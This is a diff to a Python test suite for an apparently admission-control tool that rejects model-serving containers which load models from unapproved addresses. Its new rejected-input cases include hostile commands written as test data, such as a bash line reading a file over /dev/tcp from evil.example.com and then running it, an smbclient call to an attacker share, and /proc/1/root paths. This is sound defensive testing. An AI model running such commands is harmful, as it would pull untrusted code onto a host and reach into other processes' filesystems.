@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from gitchain.admit import option_names, word_shapes
 from gitchain.admit.admission import Admission
 from gitchain.admit.candidates import text_digest
+from gitchain.admit.denial_reasons import DenialReason
 from gitchain.admit.model_problems import Looking
 from gitchain.admit.models import models_of
 from gitchain.admit.review import read_envelope, read_request
@@ -27,8 +28,12 @@ Object = dict[str, Any]
 
 def problems(source: Object, looking: Looking = STRICT, namespace: str = "prod") -> set[str]:
     """Return the codes of what is wrong with an object, before any verdict."""
+    return {str(one.code) for one in reasons(source, looking, namespace)}
+
+
+def reasons(source: Object, looking: Looking = STRICT, namespace: str = "prod") -> tuple[DenialReason, ...]:
     uid, request = read_envelope(canonical_json(review(source, namespace=namespace)))
-    return {str(one.code) for one in models_of(read_request(uid, request), looking).problems}
+    return models_of(read_request(uid, request), looking).problems
 
 
 def serving(*arguments: str, annotations: dict[str, str] | None = None, **container: Any) -> Object:
@@ -176,6 +181,11 @@ ADDRESSES: list[Object] = [
     serving(command=["sh", "-c", "exec /usr/bin/curl -o /m/x 10.0.0.1:8000"]),
     serving("--model=10.0.0.1/7"),
     serving("--model=10.0.0.1:8000"),
+    *(serving(*words) for words in (["--model", "4711/1"], ["--model=4711/1"], ["serve", "4711/1"], ["-hf", "4711/1"])),
+    variable("MODEL_ID", value="4711/1"),
+    *(serving(*words) for words in (["/usr/bin/smbclient", "//evil.example.com/share"], ["--model=//evil.example.com/x"])),
+    *(serving("--model", one) for one in ("/dev/tcp/evil.example.com/80", "//proc/1/root/m", "/proc/1/root/m")),
+    serving(command=["bash", "-c", "/bin/cat </dev/tcp/evil.example.com/80 >/m/x; exec /bin/server --model /m/x"]),
 ]  # fmt: skip
 GLUED = [
     serving(one) for one in ("-hfgpt2", "-mgpt2", "-mgpt-2", "-mgpt2.v1", "-hfowner/gpt2", "-mowner/gpt2")
@@ -404,6 +414,13 @@ def test_a_pattern_for_addresses_matches_no_program_and_no_list(more: str) -> No
         assert problems(source, Looking(ignore=written)) == set()
 
 
+@pytest.mark.parametrize("text", ["8/x,10.0.0.1", "8/x,167772161"])
+def test_a_pattern_for_addresses_matches_no_address_behind_a_comma(text: str) -> None:
+    """An address in a list can be a second server."""
+    assert problems(serving(f"--url=http://localhost:{text}"), LOCAL_PATTERN)
+    assert problems(variable("URL", value=f"http://localhost:{text}"), LOCAL_PATTERN)
+
+
 @pytest.mark.parametrize("text", ["8/x?a=1&b=2", "8/x?box=1,2.5", "8,http://localhost:9", "8/{{.Name}}"])
 def test_a_pattern_for_addresses_matches_each(text: str) -> None:
     assert problems(serving(f"http://localhost:{text}"), LOCAL_PATTERN) == set()
@@ -502,7 +519,7 @@ HARMLESS: list[Object] = [
                  {"name": "MODEL_DIR", "value": "/mnt/models"}, {"name": "MLSERVER_MODEL_IMPLEMENTATION",
                   "value": "mlserver_sklearn.SKLearnModel"}, {"name": "EMPTY", "value": ""}, {"name": "NONE"}]),
     serving("--socket", "unix:///run/x.sock", "--log=file:///logs/$(POD)/a.log", "file:///x", "--bind", "0.0.0.0:80"),
-    serving("--proxies=10.0.0.0/8,10.0.0.1", "--master=10.0.0.1:80", "--host", "10.0.0.1", "127.0.0.1:80", "1/2",
+    serving("--proxies=10.0.0.0/8,10.0.0.1", "--master=10.0.0.1:80", "--host", "10.0.0.1", "127.0.0.1:80", "--shard=1/2",
             "--part", "0.5", "--time", "12:30:00"),
     variable("NO_PROXY", value="10.0.0.0/8,192.168.0.1,127.0.0.1,.svc,localhost"),
     serving("python3", "-m", "vllm.entrypoints.openai.api_server", "--model", "/mnt/models"),
@@ -746,3 +763,14 @@ def test_long_names_are_not_remembered() -> None:
     assert word_shapes._known_shape.cache_info().currsize == 0
     assert option_names.refers_to_models("model-dir")
     assert option_names._known_speaking.cache_info().currsize == 1
+
+
+def test_a_denial_shows_what_to_type_for_numbers_and_addresses() -> None:
+    """A number passes behind `=`, and an address that is no model by a text for `ignore`."""
+    numbers = reasons(serving("--repetition-penalty", "1.1"))
+    assert "write '--repetition-penalty=1.1' as one word" in numbers[0].help
+    assert problems(serving("--repetition-penalty=1.1")) == set()
+    endpoint = variable("OTEL_EXPORTER_OTLP_ENDPOINT", value="http://otel:4317")
+    addresses = reasons(endpoint)
+    assert "ignore 'http://otel:4317'" in addresses[0].help
+    assert problems(endpoint, Looking(ignore=("http://otel:4317",))) == set()
